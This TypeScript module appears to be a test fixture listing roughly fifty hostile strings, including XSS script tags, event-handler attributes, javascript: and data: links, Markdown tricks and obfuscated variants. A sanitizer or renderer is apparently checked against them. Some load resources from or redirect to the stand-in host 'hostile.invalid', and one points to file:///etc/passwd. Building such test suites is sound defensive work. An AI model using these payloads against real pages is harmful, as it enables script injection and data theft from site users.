/**
 * Texts that try to become elements, scripts, styles, requests or navigation where a page shows them. `CALLED` is what
 * they call when they succeed, and `OUTSIDE` is the host they would reach.
 */
export const CALLED = "hostile_text_ran";
export const OUTSIDE = "hostile.invalid";

const RUN = `window.${CALLED}=1`;
const URL = `https://${OUTSIDE}/x`;

export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<script src="${URL}.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${URL}.png">`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `\` onclick=${RUN} \``,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:parent.${CALLED}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALLED}=1</script>"></iframe>`,
  `<object data="${URL}"></object><embed src="${URL}">`,
  `<link rel="stylesheet" href="${URL}.css">`,
  `<style>@import "${URL}.css";*{background:url(${URL})}</style>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</pre></code><script>${RUN}</script>`,
  `</details></article><form action="${URL}"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${URL}">`,
  `<base href="${URL}/">`,
  `<body onload="${RUN}">`,
  `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java&#x0A;script:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox)[y](file:///etc/passwd)`,
  `<javascript:${RUN}>`,
  `![x](${URL}.png)`,
  `![x](${URL}.png "y\\" onerror=\\"${RUN}")`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `[x](https://ok.invalid/"onmouseover="${RUN})`,
  `\`\`\`"><script>${RUN}</script>\ncode\n\`\`\``,
  `~~~ js onload=${RUN}\n</code></pre><img src=x onerror=${RUN}>\n~~~`,
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  `<!--><script>${RUN}</script>--> <![CDATA[<script>${RUN}</script>]]>`,
  `\u202e<\u0000script>${RUN}\u2028</script>\u2066<img src=x onerror=${RUN}>`,
];
